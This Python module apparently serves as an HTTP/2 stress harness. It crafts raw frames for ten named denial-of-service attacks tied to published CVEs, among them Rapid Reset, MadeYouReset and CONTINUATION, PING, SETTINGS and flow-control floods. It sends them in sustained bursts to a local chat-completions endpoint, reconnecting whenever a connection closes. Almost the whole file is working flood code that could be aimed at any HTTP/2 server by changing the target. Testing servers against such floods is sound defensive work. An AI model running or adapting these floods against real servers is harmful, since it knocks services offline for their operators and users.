"""Attacks on one connection at a time, from frames that are made before they start: the attacker must be cheaper than
its victim. A connection that is closed is opened again at once, and the attack goes on.

Rapid Reset (CVE-2023-44487), MadeYouReset (CVE-2025-8671), CONTINUATION (CVE-2024-27316), PING and SETTINGS
(CVE-2019-9512, -9515), windows that stay at zero (CVE-2019-9517), tiny DATA (CVE-2019-9518), WINDOW_UPDATE.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any, Final

from hpack import Encoder

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
TICK_S: Final = 0.01
BODY: Final = json.dumps(
    {"model": "synthetic", "messages": [{"role": "user", "content": "flood"}], "max_tokens": 100_000,
     "ignore_eos": True, "stream": True}
).encode()  # fmt: skip
CODES: Final = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 5: "STREAM_CLOSED", 11: "ENHANCE_YOUR_CALM"}


def frame(kind: int, flags: int, sid: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + sid.to_bytes(4) + payload


def settings(*entries: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(i.to_bytes(2) + v.to_bytes(4) for i, v in entries))


BLOCK: Final = Encoder().encode(
    [(name, value, True) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"127.0.0.1"),
        (b":path", b"/v1/chat/completions"), (b"content-type", b"application/json"))]
)  # fmt: skip


def asked(sid: int) -> bytes:
    """A whole request."""
    return frame(HEADERS, 4, sid, BLOCK) + frame(DATA, 1, sid, BODY)


@dataclass(frozen=True)
class Attack:
    """`opening` after preface and SETTINGS; then unit(0), unit(1), ... `per_s` a second, `units` on one connection."""

    name: str
    unit: Callable[[int], bytes]
    opening: bytes = b""
    per_s: int = 10_000
    units: int = 10_000
    settings: tuple[tuple[int, int], ...] = ()
    reads: bool = True
    holds: bool = False  # what is sent stays open to the end, instead of a new connection


def rapid_reset(n: int) -> bytes:
    sid = 2 * n + 1
    return frame(HEADERS, 5, sid, BLOCK) + frame(RST_STREAM, 0, sid, (8).to_bytes(4))


def rapid_reset_whole(n: int) -> bytes:
    return asked(2 * n + 1) + frame(RST_STREAM, 0, 2 * n + 1, (8).to_bytes(4))


def made_you_reset(n: int) -> bytes:
    """A request that runs, and DATA after its end: the server has to reset it."""
    return asked(2 * n + 1) + frame(DATA, 0, 2 * n + 1, b"x")


ATTACKS: Final = {
    a.name: a
    for a in (
        Attack("rapid-reset", rapid_reset),
        Attack("rapid-reset-whole", rapid_reset_whole),
        Attack("made-you-reset", made_you_reset),
        Attack("continuation", lambda n: frame(CONTINUATION, 0, 1), opening=frame(HEADERS, 1, 1, BLOCK)),
        Attack("ping", lambda n: frame(PING, 0, 0, bytes(8))),
        Attack("ping-unread", lambda n: frame(PING, 0, 0, bytes(8)), reads=False),
        Attack("settings", lambda n: settings((4, 65_535 + n % 2))),
        Attack("zero-window", lambda n: asked(2 * n + 1), settings=((4, 0),), per_s=100, units=100, holds=True),
        Attack("tiny-data", lambda n: frame(DATA, 0, 1, b" "), opening=frame(HEADERS, 4, 1, BLOCK)),
        Attack("window-update", lambda n: frame(WINDOW_UPDATE, 0, 1, (1).to_bytes(4)),
               opening=asked(1), settings=((4, 1),)),
    )
}  # fmt: skip


@dataclass
class Toll:
    """What the attacker did, and how each of its connections ended."""

    sent: int = 0
    connections: int = 0
    ended: Counter[str] = field(default_factory=Counter)

    def as_json(self) -> dict[str, Any]:
        return {"units_sent": self.sent, "connections": self.connections, "ended": dict(self.ended)}


def last_word(wire: bytes) -> str:
    """The code of a GOAWAY at the end of what the server sent, if there is one."""
    at = 0
    while len(wire) - at >= 9:
        size = int.from_bytes(wire[at : at + 3])
        if wire[at + 3] == GOAWAY and len(wire) - at >= 17:
            code = int.from_bytes(wire[at + 13 : at + 17])
            return f"GOAWAY {CODES.get(code, code)}"
        at += 9 + size
    return "closed"


class Attacker:
    """One connection after the other, until `stop` is true."""

    def __init__(self, attack: Attack, port: int) -> None:
        self.attack, self.port = attack, port
        tick = max(1, int(attack.per_s * TICK_S))
        units = [attack.unit(n) for n in range(attack.units)]
        self._portions = [b"".join(units[at : at + tick]) for at in range(0, len(units), tick)]
        self._per_portion = tick
        self.toll = Toll()
        self._socket: socket.socket | None = None
        self._at = 0
        self._rest = memoryview(b"")
        self._got = bytearray()

    def run(self, stop: Callable[[], bool]) -> Toll:
        due = time.monotonic()
        while not stop():
            if self._socket is None:
                self._open()
            self._step()
            due += TICK_S
            time.sleep(max(0.0, due - time.monotonic()))
            due = max(due, time.monotonic() - 10 * TICK_S)
        self._close("held until the end")
        return self.toll

    def _open(self) -> None:
        try:
            self._socket = socket.create_connection(("127.0.0.1", self.port), 1.0)
        except OSError:
            self.toll.ended["not accepted"] += 1
            return
        self._socket.setblocking(False)
        self.toll.connections += 1
        self._at = 0
        self._got.clear()
        self._rest = memoryview(PREFACE + settings(*self.attack.settings) + frame(SETTINGS, 1, 0) + self.attack.opening)
        self._send()

    def _step(self) -> None:
        if self._socket is None:
            return
        if not self._rest:
            if self._at == len(self._portions):
                if self.attack.holds:
                    self._read()
                else:
                    self._close("all sent")
                return
            self._rest = memoryview(self._portions[self._at])
            self._at += 1
            self.toll.sent += self._per_portion
        self._send()
        if self.attack.reads:
            self._read()

    def _send(self) -> None:
        try:
            while self._rest and self._socket is not None:
                self._rest = self._rest[self._socket.send(self._rest) :]
        except BlockingIOError:
            pass
        except OSError:
            self._read()
            self._close(last_word(bytes(self._got)))

    def _read(self) -> None:
        with contextlib.suppress(BlockingIOError, OSError):
            while self._socket is not None:
                data = self._socket.recv(1 << 20)
                if not data:
                    self._close(last_word(bytes(self._got)))
                    return
                if len(self._got) < 1 << 20:
                    self._got += data

    def _close(self, how: str) -> None:
        if self._socket is not None:
            self._socket.close()
            self._socket = None
            self._rest = memoryview(b"")
            self.toll.ended[how] += 1


def attacker(name: str, port: int, core: int, stop: Any, pipe: Any) -> None:
    """A process of its own: until the event `stop` is set; the toll goes into the pipe."""
    os.sched_setaffinity(0, {core})
    pipe.send(Attacker(ATTACKS[name], port).run(stop.is_set).as_json())
